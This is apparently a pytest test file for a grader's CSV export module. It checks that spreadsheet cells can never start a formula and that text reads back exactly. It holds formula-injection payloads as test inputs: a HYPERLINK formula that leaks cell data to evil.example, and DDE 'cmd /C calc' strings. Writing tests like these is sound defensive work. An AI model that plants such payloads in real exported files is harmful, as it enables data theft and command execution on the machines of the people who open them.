"""grader.csv_cells: CSV cells that no spreadsheet runs as a formula, read back exactly as written.

Each test parses what was written with the real `csv` reader, as a spreadsheet's import would split it.
"""

import csv
import io
import itertools
import re

import pytest

from grader.csv_cells import FORMULA_STARTS, number_cell, read_cell, read_csv, text_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"see your grade")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1",
    "\n=1+1",
    "'=already quoted",
    "'",
    "-",
    "=",
]
PLAIN = ["Alice Smith", "alice@example.edu", "1001", "", "O'Brien", "a,b;c\td", 'say "hi"', "x=1", "3-2"]


def starts_a_formula(cell):
    """Whether a spreadsheet could read the cell as a formula: its first character, or its first after blanks."""
    return cell.startswith(FORMULA_STARTS) or cell.lstrip(" ").startswith(FORMULA_STARTS)


def pieces(cell):
    """Every cell a reader could cut from a field by splitting it at any separator or line break."""
    return re.split(r"[,;\t\r\n]", cell)


def spreadsheet_cells(text):
    """Every cell of a CSV text as the csv module splits it (a spreadsheet's import does the same)."""
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


@pytest.mark.parametrize("text", HOSTILE + PLAIN)
def test_a_text_cell_never_starts_a_formula_and_reads_back_exactly(text):
    assert not starts_a_formula(text_cell(text))
    assert read_cell(text_cell(text)) == text


def test_no_piece_of_any_short_text_starts_a_formula_wherever_a_reader_splits_it():
    """Every text of up to 4 characters over formula characters, quotes, separators and blanks: each piece a
    separator could cut starts no formula, and the text reads back exactly."""
    alphabet = ["=", "-", "@", "'", ",", ";", "\t", "\n", " ", "a"]
    for n in range(5):
        for chars in itertools.product(alphabet, repeat=n):
            text = "".join(chars)
            cell = text_cell(text)
            assert read_cell(cell) == text, repr(text)
            assert not any(starts_a_formula(p) for p in pieces(cell)), f"{text!r} -> {cell!r}"


@pytest.mark.parametrize("text", PLAIN[:3] + ["O'Brien", "a,b;c\td"])
def test_text_that_starts_no_formula_is_written_as_it_is(text):
    assert text_cell(text) == text


@pytest.mark.parametrize("number", ["0", "93.5", "-2.5", "-0", "1e-05", "12.3"])
def test_a_number_stays_a_number_even_a_negative_one(number):
    """A plain decimal number is a constant, not a formula: "-2.5" stays -2.5 in the spreadsheet."""
    assert number_cell(number) == number and read_cell(number_cell(number)) == number


@pytest.mark.parametrize("text", ["-2+3", "-1-cmd|' /C calc'!A0", "=1", "+5", "@A1", "-", "1,5"])
def test_anything_in_a_numeric_column_that_is_not_a_plain_number_is_quoted_like_text(text):
    assert number_cell(text) == text_cell(text)
    assert read_cell(number_cell(text)) == text


def test_a_whole_csv_has_no_formula_cell_no_split_field_and_reads_back_as_written():
    rows = [{"name": value, "score": score} for value, score in zip(HOSTILE + PLAIN, ["-1.5", "=1+1", "7"] * 10)]
    text = write_csv(("name", "score"), rows, numeric=("score",))
    cells = spreadsheet_cells(text)
    assert len(cells) == 2 * (len(rows) + 1), "a separator inside a field must not split it"
    assert [c for c in cells if starts_a_formula(c) and c != "-1.5"] == []
    header, back = read_csv(text)
    written = [{k: v.replace("\0", "\ufffd") for k, v in row.items()} for row in rows]  # a NUL cannot be written on 3.10
    assert header == ["name", "score"] and back == written


def test_every_field_is_wrapped_in_double_quotes_as_owasp_advises_and_no_other_separator_starts_a_formula():
    """And a formula after a separator inside a field is quoted too, for a spreadsheet that guesses another separator."""
    text = write_csv(("a", "b"), [{"a": "x;=1+1", "b": "y\t@SUM(1)"}])
    assert text == '"a","b"\n"x;\'=1+1","y\t\'@SUM(1)"\n'
    for sep in (";", "\t"):  # a spreadsheet that guesses another separator splits the fields inside their quotes
        assert not any(starts_a_formula(c) for line in csv.reader(io.StringIO(text), delimiter=sep) for c in line)
